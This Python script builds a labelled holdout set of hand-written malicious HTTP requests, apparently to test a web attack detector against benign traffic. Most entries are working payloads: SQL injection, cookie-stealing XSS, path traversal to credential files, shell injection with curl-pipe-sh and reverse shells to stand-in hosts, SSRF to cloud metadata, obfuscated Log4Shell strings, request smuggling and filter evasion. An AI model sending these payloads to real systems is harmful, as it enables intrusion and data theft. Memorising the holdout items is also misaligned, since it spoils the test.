"""Attack entries for holdout16, written by hand (blind), placed in the same
kinds of sites as the benign set."""
from common import write

J = "application/json"

sqli = [
    {"target": "/api/seatmap?flight=LH2041&date=2026-12-19&cabin=Y'%20AND%20(SELECT%201%20FROM%20(SELECT%20SLEEP(7))x)--%20-", "profile": "xhr", "note": "time-based blind in seat-map cabin param"},
    {"method": "POST", "target": "/quote/car", "profile": "form", "form": [["zip", "80331"], ["vehicle_year", "2019"], ["make", "VW' OR '7'='7"], ["mileage", "12000"]], "note": "tautology in insurance quote form"},
    {"method": "POST", "target": "/v2/orders", "profile": "api", "json": {"account": "U1182733", "symbol": "AAPL", "side": "buy", "qty": 10, "type": "limit", "limit_price": "187.20", "client_ref": "x'; UPDATE accounts SET cash_balance=999999 WHERE id='U1182733'; --"}, "note": "stacked update in brokerage order json"},
    {"target": "/oai?verb=ListRecords&metadataPrefix=oai_dc&set=hist%22)%20UNION%20SELECT%20login,pass_hash,3,4%20FROM%20staff%23", "profile": "api", "note": "union in OAI set spec"},
    {"target": "/inventory/lookup?sku=4006381333931&bin=A-12-03%27%7C%7C(SELECT%20CASE%20WHEN%20(1=1)%20THEN%20pg_sleep(5)%20ELSE%20NULL%20END)%7C%7C%27", "profile": "mobile_app", "note": "postgres conditional sleep in warehouse bin"},
    {"target": "/giftcards/balance", "profile": "xhr", "headers": [["Cookie", "sessionid=q8f7w6e5r4t3y2u1i0o9p8a7s6d5f4g3; card_last=7731' AND extractvalue(1,concat(0x7e,(select @@version)))-- x"]], "note": "error-based extractvalue in cookie"},
    {"target": "/kanban/boards/42/cards?sort=position%20desc,(select%20case%20when%20substring(current_user,1,1)=%27p%27%20then%201%20else%201/0%20end)", "profile": "xhr", "note": "order by injection boolean via div by zero"},
    {"method": "POST", "target": "/discovery/search", "profile": "xhr", "json": {"matter": "2026-CV-0412", "query": "privileged AND memo", "custodian": "jdoe') OR 1=1 UNION ALL SELECT doc_id,body,null FROM documents WHERE ('a'='a"}, "note": "union in e-discovery custodian field"},
    {"target": "/coupons/validate?code=WINTER25%22%20or%20sleep(6)%20and%20%221", "profile": "chrome_mobile", "note": "double-quote context sleep"},
    {"method": "POST", "target": "/timesheets/approve", "profile": "form", "form": [["sheet_id", "8812;DECLARE @q varchar(99);SET @q='\\\\attacker.example\\x';EXEC master..xp_dirtree @q;--"], ["action", "approve"]], "note": "mssql xp_dirtree out-of-band"},
    {"target": "/meter/readings?account=551200&from=2026-11-01&to=2026-11-30%27%20and%201=cast((select%20string_agg(usename,%27,%27)%20from%20pg_user)%20as%20int)--", "profile": "chrome", "note": "postgres cast error exfil"},
]

xss = [
    {"method": "POST", "target": "/dating/profile", "profile": "xhr", "json": {"display_name": "Mia", "bio": "Love hiking <svg/onload=fetch('//x.example/c?'+document.cookie)>", "age": 29}, "note": "svg onload in dating bio"},
    {"target": "/survey/thanks?name=%3Cimg%20src%3Dx%20onerror%3Dalert(document.domain)%3E", "profile": "chrome", "note": "reflected img onerror"},
    {"method": "POST", "target": "/lms/lessons/5/comments", "profile": "form", "form": [["comment", "nice lesson\"><script src=https://cdn.evil.example/k.js></script>"]], "note": "script src after attribute break"},
    {"target": "/museum/viewer?manifest=javascript:alert(1)//https://iiif.example.org/m.json", "profile": "chrome", "note": "javascript: URL in manifest param"},
    {"method": "POST", "target": "/subtitles/upload", "profile": "form_multipart", "multipart": {"boundary": "----WebKitFormBoundaryQ2v8d7JkLm", "parts": [{"name": "lang", "data": "en"}, {"name": "file", "filename": "ep01.vtt", "content_type": "text/vtt", "data": "WEBVTT\n\n00:00:01.000 --> 00:00:03.000\n<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>\n"}]}, "note": "iframe srcdoc in VTT cue"},
    {"target": "/whiteboard/b/9kq?label=%3Cdetails%20open%20ontoggle%3Deval(atob(%27YWxlcnQoMSk%3D%27))%3E", "profile": "chrome", "note": "details ontoggle with atob"},
    {"method": "PUT", "target": "/api/kanban/cards/778", "profile": "xhr", "json": {"title": "Fix login", "description": "<a href=\"jav&#x61;script:alert(`x`)\">docs</a>"}, "note": "entity-obfuscated javascript href"},
    {"target": "/gallery/search?tag=%22%3E%3Cbody%20onpageshow%3Dlocation%3D%27%2F%2Fevil.example%2F%3F%27%2Bdocument.cookie%3E", "profile": "safari", "note": "body onpageshow cookie steal"},
    {"method": "POST", "target": "/petition/sign", "profile": "form", "form": [["first", "Ana"], ["last", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"], ["email", "ana@example.org"]], "note": "mutation-XSS shape"},
    {"target": "/recipes/scale?servings=4&unit=%3Cscript%3Econsole.log(1);new%20Image().src%3D%27%2F%2Fx.example%2F%27%2Blocalstorage%3C%2Fscript%3E", "profile": "chrome", "note": "script tag in unit param"},
]

trav = [
    {"target": "/iiif/image/..%2F..%2F..%2F..%2Fetc%2Fpasswd/full/max/0/default.jpg", "profile": "chrome_img", "note": "encoded traversal in IIIF identifier"},
    {"target": "/labels/download?file=../../../../../var/www/.env", "profile": "api", "note": "dotenv via label download"},
    {"target": "/fonts/css?family=../../../../proc/self/environ", "profile": "chrome_css", "note": "proc environ in font family"},
    {"target": "/export/payroll?template=....//....//....//etc/shadow", "profile": "chrome", "note": "doubled dot-slash filter bypass"},
    {"target": "/help/page?lang=..\\..\\..\\..\\windows\\win.ini", "profile": "edge", "note": "windows backslash traversal"},
    {"method": "POST", "target": "/mods/upload", "profile": "form_multipart", "multipart": {"boundary": "----WebKitFormBoundarymodZ7", "parts": [{"name": "game", "data": "skyrim"}, {"name": "archive", "filename": "../../../../home/steam/.ssh/authorized_keys", "content_type": "application/octet-stream", "data": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH attacker@box\n"}]}, "note": "traversal in upload filename"},
    {"target": "/court/docs/view?path=%2e%2e/%2e%2e/%2e%2e/etc/hosts", "profile": "firefox", "note": "mixed encoded dots"},
    {"target": "/api/reports?include=php://filter/convert.base64-encode/resource=../config/database.php", "profile": "xhr", "note": "php filter wrapper LFI"},
    {"target": "/theme/static/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "profile": "chrome", "note": "overlong UTF-8 dots"},
    {"target": "/drone/logs?file=file:///etc/passwd", "profile": "api", "note": "file scheme in file param"},
]

rce = [
    {"method": "POST", "target": "/admin/diagnostics/ping", "profile": "form", "form": [["host", "10.0.0.1; curl -s http://203.0.113.9/x.sh | sh"]], "note": "semicolon chained curl pipe sh"},
    {"target": "/weather/upload?ID=KCASANF99&PASSWORD=x&tempf=$(id)&dateutc=now", "profile": "none", "headers": [["User-Agent", "Wget/1.21"]], "note": "command substitution in station GET"},
    {"method": "POST", "target": "/labels/render", "profile": "api", "json": {"carrier": "dhl", "format": "zpl", "ref": "`wget -qO- 198.51.100.7/b|bash`"}, "note": "backticks in label ref"},
    {"target": "/tools/convert?src=a.png&opts=-resize%2050%25%20%7C%7C%20nc%20-e%20/bin/sh%20198.51.100.3%204444", "profile": "chrome", "note": "netcat reverse shell after ||"},
    {"method": "POST", "target": "/api/templates/preview", "profile": "xhr", "json": {"template": "Hello {{ self.__init__.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"}, "note": "Jinja SSTI to os.popen"},
    {"method": "POST", "target": "/panel/servers/3/console", "profile": "xhr", "json": {"command": "say hi\n/bin/bash -i >& /dev/tcp/192.0.2.44/9001 0>&1"}, "note": "bash reverse shell in game panel console"},
    {"target": "/photo/exif?file=IMG_2031.jpg%26%26python3%20-c%20%27import%20socket,os;s%3Dsocket.socket()%27", "profile": "chrome", "note": "python one-liner after &&"},
    {"method": "POST", "target": "/erp/po/import", "profile": "form", "headers": [["Cookie", "JSESSIONID=8F1C0A77E2; rememberMe=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAACc3IAK29yZy5hcGFjaGUuY29tbW9ucy5iZWFudXRpbHMuQmVhbkNvbXBhcmF0b3I="]], "form": [["file_id", "po-7731"]], "note": "base64 Java serialised gadget chain (PriorityQueue/BeanComparator) in a rememberMe cookie"},
    {"target": "/search?q=${@java.lang.Runtime@getRuntime().exec('id')}", "profile": "chrome", "note": "OGNL runtime exec in query"},
    {"method": "POST", "target": "/api/export", "profile": "xhr", "json": {"format": "csv", "filename": "report.csv\";rm -rf /tmp/*;echo \""}, "note": "quote break then rm"},
    {"method": "POST", "target": "/cgi-bin/status", "profile": "none", "headers": [["User-Agent", "() { :;}; /bin/bash -c 'cat /etc/passwd'"]], "body": "", "note": "shellshock in UA"},
]

ssrf = [
    {"method": "POST", "target": "/iiif/import", "profile": "xhr", "json": {"manifest_url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}, "note": "AWS metadata via manifest import"},
    {"target": "/oembed-proxy?url=http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "profile": "xhr", "note": "GCP metadata token"},
    {"method": "POST", "target": "/webhooks/subscribe", "profile": "api", "json": {"event": "order.shipped", "callback": "http://127.0.0.1:2375/containers/json"}, "note": "docker socket via callback"},
    {"target": "/img/fetch?src=http://0x7f000001:6379/", "profile": "chrome_img", "note": "hex-encoded loopback to redis"},
    {"method": "POST", "target": "/citations/import-url", "profile": "form", "form": [["url", "gopher://127.0.0.1:11211/_stats%0d%0aquit"]], "note": "gopher to memcached"},
    {"target": "/avatar?from=http://[::ffff:a9fe:a9fe]/latest/user-data", "profile": "chrome_img", "note": "ipv6-mapped metadata address"},
    {"method": "POST", "target": "/punchout/setup", "profile": "api", "headers": [["Content-Type", "text/xml"]], "body": "<?xml version=\"1.0\"?>\n<!DOCTYPE cXML [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/\">]>\n<cXML payloadID=\"1@x\" timestamp=\"2026-12-07T10:00:00Z\"><Request><PunchOutSetupRequest operation=\"create\"><BuyerCookie>&x;</BuyerCookie></PunchOutSetupRequest></Request></cXML>", "note": "XXE to metadata in cXML"},
    {"target": "/preview?link=http://2130706433/admin", "profile": "xhr", "note": "decimal loopback"},
    {"method": "POST", "target": "/feeds/register", "profile": "api", "json": {"feed_url": "file:///etc/passwd", "type": "inventory"}, "note": "file scheme in marketplace feed"},
    {"target": "/pdf/render?url=http://localhost:8500/v1/agent/self", "profile": "chrome", "note": "consul agent via pdf renderer"},
]

jndi = [
    {"target": "/seatmap", "profile": "chrome", "headers": [["X-Api-Version", "${jndi:ldap://198.51.100.22:1389/a}"]], "note": "plain jndi ldap in custom header"},
    {"target": "/", "profile": "none", "headers": [["User-Agent", "${${lower:j}ndi:${lower:r}mi://x.example/o}"]], "note": "lower lookups in UA"},
    {"method": "POST", "target": "/login", "profile": "form", "form": [["username", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.oob.example}"], ["password", "x"]], "note": "env exfil via dns in form"},
    {"target": "/api/quote", "profile": "api", "headers": [["Referer", "${${::-j}${::-n}${::-d}${::-i}:ldaps://evil.example/z}"]], "note": "default-value splitting in Referer"},
    {"target": "/hotel/rates?hotel=${jndi:ldap://127.0.0.1#evil.example:1389/x}", "profile": "api", "note": "hash-bypass host in query"},
    {"target": "/status", "profile": "chrome", "headers": [["X-Forwarded-For", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/a}"]], "note": "k8s/sd lookups obfuscation in XFF"},
    {"target": "/cart", "profile": "chrome", "headers": [["Cookie", "lang=${jndi:iiop://203.0.113.5/c}; sid=abc"]], "note": "iiop in cookie"},
    {"method": "POST", "target": "/api/flights/checkin", "profile": "mobile_app", "json": {"pnr": "X7K2QZ", "lastName": "${${upper:j}ndi:ldap://a.example/b}"}, "note": "upper lookup in json"},
    {"target": "/", "profile": "chrome", "headers": [["Accept-Language", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x.example/e}"]], "note": "env default chars in Accept-Language"},
    {"target": "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fx%7D", "profile": "chrome", "note": "url-encoded jndi in query"},
]

scanner = [
    {"target": "/", "profile": "none", "headers": [["User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"], ["Accept", "*/*"]], "note": "sqlmap UA"},
    {"target": "/nmaplowercheck1701955", "profile": "none", "headers": [["User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"]], "note": "nmap NSE probe"},
    {"target": "/.git/config", "profile": "none", "headers": [["User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"], ["Accept", "*/*"]], "note": "git config probe"},
    {"target": "/wp-admin/install.php", "profile": "none", "headers": [["User-Agent", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"]], "note": "wpscan"},
    {"target": "/.aws/credentials", "profile": "none", "headers": [["User-Agent", "curl/8.4.0"]], "note": "aws credentials probe"},
    {"target": "/phpunit/src/Util/PHP/eval-stdin.php", "profile": "none", "headers": [["User-Agent", "Mozilla/5.0 zgrab/0.x"]], "note": "phpunit eval-stdin probe with zgrab"},
    {"target": "/actuator/env", "profile": "none", "headers": [["User-Agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"]], "note": "nuclei spring actuator"},
    {"target": "/cgi-bin/test-cgi", "profile": "none", "headers": [["User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000123)"]], "note": "nikto"},
    {"target": "/backup.sql.gz", "profile": "none", "headers": [["User-Agent", "Fuzz Faster U Fool v2.1.0-dev"]], "note": "ffuf backup probe"},
    {"target": "/server-status", "profile": "none", "headers": [["User-Agent", "Mozilla/5.0 (compatible; Nimbostratus-Bot/v1.3.2)"], ["Accept", "*/*"]], "note": "server-status with unusual bot"},
]

proto = [
    {"raw": "POST /api/orders HTTP/1.1\r\nHost: shop.example.com\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\nG", "note": "CL.TE smuggling"},
    {"raw": "POST /labels HTTP/1.1\r\nHost: shop.example.com\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\nConnection: close\r\n\r\n5\r\nhello\r\n0\r\n\r\n", "note": "duplicate TE"},
    {"raw": "POST /api/quote HTTP/1.1\r\nHost: shop.example.com\r\nTransfer-Encoding : chunked\r\nConnection: close\r\n\r\n3\r\nabc\r\n0\r\n\r\n", "note": "space before colon in TE"},
    {"raw": "GET /seatmap HTTP/1.1\r\nHost: shop.example.com\r\nHost: internal.admin.local\r\nConnection: close\r\n\r\n", "note": "duplicate Host"},
    {"raw": "POST /checkin HTTP/1.1\r\nHost: shop.example.com\r\nContent-Length: 4\r\nContent-Length: 40\r\nConnection: close\r\n\r\npnr=", "note": "conflicting Content-Length"},
    {"raw": "GET /status HTTP/1.1\r\nHost: shop.example.com\r\nX-Foo: bar\r\n baz: folded\r\nConnection: close\r\n\r\n", "note": "obsolete line folding"},
    {"raw": "POST /kanban HTTP/1.1\r\nHost: shop.example.com\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\nhello\r\n0\r\n\r\n", "note": "non-hex chunk size"},
    {"raw": "GET /a HTTP/1.1\nHost: shop.example.com\nConnection: close\n\n", "note": "bare LF line endings"},
    {"raw": "GET /admin HTTP/1.1\r\nHost: shop.example.com\r\nContent-Length: -1\r\nConnection: close\r\n\r\n", "note": "negative Content-Length"},
    {"raw": "GET /orders HTTP/1.1\r\nHost: shop.example.com\r\nX-Inject: a\rb: c\r\nConnection: close\r\n\r\n", "note": "bare CR inside header value"},
    {"raw": "POST /v2/orders HTTP/1.1\r\nHost: shop.example.com\r\nTransfer-Encoding: chunked, chunked\r\nContent-Length: 3\r\nConnection: close\r\n\r\n0\r\n\r\n", "note": "TE list plus CL"},
]

evasion = [
    {"target": "/seatmap?flight=1%2527%2520UNION%2520SELECT%2520pass%2520FROM%2520users--", "profile": "chrome", "note": "double-encoded union"},
    {"target": "/survey?q=%u003Cscript%u003Ealert(1)%u003C/script%u003E", "profile": "chrome", "note": "IIS %u encoding of script"},
    {"target": "/api/items?id=1/*!50000UnIoN*//*!50000SeLeCt*/user,2", "profile": "xhr", "note": "mysql versioned comments"},
    {"target": "/profile/preview?bio=%3CsCrIpT%00%3Ealert(1)%3C/ScRiPt%3E", "profile": "chrome", "note": "mixed case script tag with encoded NUL"},
    {"method": "POST", "target": "/api/notes2", "profile": "xhr", "headers": [["Content-Type", "application/json"]], "body": "{\"text\":\"\\u003cscript\\u003edocument.location='//x.example/?'+document.cookie\\u003c/script\\u003e\"}", "note": "json \\u escapes hiding script"},
    {"target": "/files?name=%252e%252e%252f%252e%252e%252fetc%252fpasswd", "profile": "chrome", "note": "double-encoded traversal"},
    {"method": "POST", "target": "/tools/ping", "profile": "form", "form": [["host", "127.0.0.1\n/???/c?t /???/p??s??"]], "note": "newline + glob-obfuscated cat passwd"},
    {"target": "/search?q=SeL%0bEcT%09*%0aFrOm%0cusers%20WhErE%0d1=1", "profile": "chrome", "note": "odd whitespace in SQL"},
    {"target": "/r?next=%26%23x6a%3B%26%23x61%3B%26%23x76%3B%26%23x61%3Bscript%3Aalert(1)", "profile": "chrome", "note": "html-entity javascript in redirect"},
    {"method": "POST", "target": "/api/run", "profile": "xhr", "json": {"cmd": "c''a''t /e\"t\"c/pa\\ss\\wd"}, "note": "quote-split shell words"},
    {"target": "/lookup?ip=127.0.0.1%3B%24%7BIFS%7Dcat%24%7BIFS%7D%2Fetc%2Fpasswd", "profile": "chrome", "note": "IFS as space"},
]
# drop the stray helper key
for e in evasion:
    e.pop("body_note", None)

n = 0
for cat, es in [("sqli", sqli), ("xss", xss), ("traversal", trav), ("rce", rce), ("ssrf", ssrf),
                ("jndi", jndi), ("scanner", scanner), ("protocol", proto), ("evasion", evasion)]:
    n += write("attacks", cat, es)
print("attacks", n)
